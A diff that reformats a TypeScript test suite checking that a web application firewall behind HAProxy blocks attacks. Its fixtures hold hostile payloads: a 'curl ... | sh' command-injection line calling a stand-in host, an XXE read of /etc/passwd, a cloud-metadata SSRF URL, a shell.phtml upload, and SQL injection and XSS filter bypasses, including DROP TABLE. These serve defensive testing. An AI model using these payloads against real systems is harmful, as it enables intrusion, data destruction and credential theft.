@@ -64,7 +64,12 @@ const PARTS: [string, string, string, string][] = [
   ['form body', raw('POST', '/comments', form, `title=hi&comment=${encodeURIComponent(XSS)}`), 'xss_detected', 'body:comment'],
   ['JSON body, nested', raw('POST', '/api/users', json, JSON.stringify({ user: { profile: [{ name: SQLI }] } })), 'sqli_detected', 'body:name'],
   ['multipart field', raw('POST', '/profile', multipart, `--XX\r\nContent-Disposition: form-data; name="bio"\r\n\r\n${XSS}\r\n--XX--\r\n`), 'xss_detected', 'body:bio'],
-  ['multipart file name', raw('POST', '/upload', multipart, '--XX\r\nContent-Disposition: form-data; name="avatar"; filename="shell.phtml"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--XX--\r\n'), 'upload_blocked', 'body:avatar'],
+  [
+    'multipart file name',
+    raw('POST', '/upload', multipart, '--XX\r\nContent-Disposition: form-data; name="avatar"; filename="shell.phtml"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--XX--\r\n'),
+    'upload_blocked',
+    'body:avatar',
+  ],
   ['XML body', raw('POST', '/xmlrpc', { 'Content-Type': 'application/xml' }, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'), 'xxe_detected', 'body'],
   ['plain text body', raw('POST', '/notes', { 'Content-Type': 'text/plain' }, 'note; curl http://x.test/s | sh'), 'cmdi_detected', 'body'],
   ['query SSRF', raw('GET', `/fetch?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`, {}), 'ssrf_detected', 'query:url'],
@@ -72,10 +77,25 @@ const PARTS: [string, string, string, string][] = [
 
 /** The bypasses of issue 8, each valid SQL or HTML that the old regexes let through. */
 const BYPASSES = [
-  'UNION/*x*/SELECT 1', '1 UNION%23x%0aSELECT 1', '1 UNION/*!50000SELECT*/ 1', '1 UNION DISTINCTROW SELECT 1', '1union select 1',
-  '1e0union select 1', "1'/**/OR/**/1=1--", "1' or true-- ", "' || 1=1--", "' OR 1 IN (1)--", '1;/**/DROP/**/TABLE users',
-  'INSERT/**/INTO users VALUES (1)', 'UPDATE/**/users/**/SET admin=1', 'DELETE/**/FROM users', 'java\tscript:alert(1)',
-  '&#106;avascript:alert(1)', '<img src=x onmouseover=alert(1)>', '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>',
+  'UNION/*x*/SELECT 1',
+  '1 UNION%23x%0aSELECT 1',
+  '1 UNION/*!50000SELECT*/ 1',
+  '1 UNION DISTINCTROW SELECT 1',
+  '1union select 1',
+  '1e0union select 1',
+  "1'/**/OR/**/1=1--",
+  "1' or true-- ",
+  "' || 1=1--",
+  "' OR 1 IN (1)--",
+  '1;/**/DROP/**/TABLE users',
+  'INSERT/**/INTO users VALUES (1)',
+  'UPDATE/**/users/**/SET admin=1',
+  'DELETE/**/FROM users',
+  'java\tscript:alert(1)',
+  '&#106;avascript:alert(1)',
+  '<img src=x onmouseover=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
 ];
 
 describe('attack detection through real HAProxy (level high)', () => {
@@ -123,13 +143,23 @@ describe('attack detection through real HAProxy (level high)', () => {
   });
 
   test('ordinary bodies reach the origin: forms, nested JSON up to 64 KB, multipart uploads, text', async () => {
-    const big = JSON.stringify({ items: Array.from({ length: 415 }, (_, i) => ({ id: i, name: `Item ${i} — O'Brien's "special" (v2.0)`, tags: ['a&b', 'c/d'], note: 'Price: 50% off; see https://shop.example/p?id=1&ref=home' })) });
+    const big = JSON.stringify({
+      items: Array.from({ length: 415 }, (_, i) => ({ id: i, name: `Item ${i} — O'Brien's "special" (v2.0)`, tags: ['a&b', 'c/d'], note: 'Price: 50% off; see https://shop.example/p?id=1&ref=home' })),
+    });
     assert.ok(Buffer.byteLength(big) > 60_000 && Buffer.byteLength(big) < 65_536, `JSON of ${Buffer.byteLength(big)} bytes`);
     const bodies: [string, string][] = [
       ['form', raw('POST', '/signup', form, 'name=Se%C3%A1n+O%27Brien&email=sean%40example.com&about=I+like+C%2B%2B+%26+Rust%3B+50%25+of+the+time')],
       ['json', raw('POST', '/api/search', json, JSON.stringify({ q: 'select the union delegates', filters: { price: '< 30', tags: ['rock & roll', 'jazz | blues'] } }))],
       ['json 60 KB', raw('POST', '/api/bulk', json, big)],
-      ['multipart', raw('POST', '/upload', multipart, '--XX\r\nContent-Disposition: form-data; name="caption"\r\n\r\nSunset at the beach (2024)\r\n--XX\r\nContent-Disposition: form-data; name="photo"; filename="IMG_2041.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0 JFIF; <?xml ...\r\n--XX--\r\n')],
+      [
+        'multipart',
+        raw(
+          'POST',
+          '/upload',
+          multipart,
+          '--XX\r\nContent-Disposition: form-data; name="caption"\r\n\r\nSunset at the beach (2024)\r\n--XX\r\nContent-Disposition: form-data; name="photo"; filename="IMG_2041.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0 JFIF; <?xml ...\r\n--XX--\r\n',
+        ),
+      ],
       ['text', raw('POST', '/notes', { 'Content-Type': 'text/plain' }, "Don't forget: the meeting is at 10 (room #4) -- bring the slides & coffee.")],
     ];
     for (const [what, request] of bodies) {
@@ -141,10 +171,7 @@ describe('attack detection through real HAProxy (level high)', () => {
 
   test('every attack of the fixtures in the query string gets 403 from the WAF', async () => {
     const passed: string[] = [];
-    const targets = [
-      ...fixture('attacks.txt').map(attackTarget),
-      ...BYPASSES.map((b) => '/search?q=' + (/%[0-9a-f]{2}/i.test(b) ? b.replace(/ /g, '%20') : encodeURIComponent(b))),
-    ];
+    const targets = [...fixture('attacks.txt').map(attackTarget), ...BYPASSES.map((b) => '/search?q=' + (/%[0-9a-f]{2}/i.test(b) ? b.replace(/ /g, '%20') : encodeURIComponent(b)))];
     for (const target of targets) {
       const attack = target;
       const r = await get(target, '127.0.30.2');
@@ -182,9 +209,30 @@ describe('attack detection through real HAProxy (level high)', () => {
     // asynchronously: the origin lives in this process)
     const curl = (body: string) =>
       new Promise<string>((resolve, reject) => {
-        const child = execFile('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', '-m', '15', '--interface', '127.0.30.7', '-H', `Host: ${HOST}`,
-          '-H', 'Expect: 100-continue', '-H', 'Content-Type: text/plain', '--data-binary', '@-', `http://127.0.0.1:${agent.httpPort}/notes`],
-          (err, stdout) => (err ? reject(err) : resolve(stdout)));
+        const child = execFile(
+          'curl',
+          [
+            '-s',
+            '-o',
+            '/dev/null',
+            '-w',
+            '%{http_code}',
+            '-m',
+            '15',
+            '--interface',
+            '127.0.30.7',
+            '-H',
+            `Host: ${HOST}`,
+            '-H',
+            'Expect: 100-continue',
+            '-H',
+            'Content-Type: text/plain',
+            '--data-binary',
+            '@-',
+            `http://127.0.0.1:${agent.httpPort}/notes`,
+          ],
+          (err, stdout) => (err ? reject(err) : resolve(stdout)),
+        );
         child.stdin!.end(body);
       });
     assert.equal(await curl('hello '.repeat(40_000)), '200');
@@ -223,7 +271,10 @@ describe('attack detection through real HAProxy (level high)', () => {
     const r = await rawRequest(agent.httpPort, raw('GET', `/search?q=${encodeURIComponent(XSS)}`, {}), '127.0.32.10');
     assert.equal(r.status, 403);
     await waitFor(async () => (await events()).some((e) => e.source_ip === '127.0.32.10'), 'the real event', 15_000, 100);
-    assert.deepEqual((await events()).filter((e) => e.source_ip === '127.0.32.9'), []);
+    assert.deepEqual(
+      (await events()).filter((e) => e.source_ip === '127.0.32.9'),
+      [],
+    );
   });
 
   test('a waf_exception opens one field of one path for one detector, and nothing else', async () => {
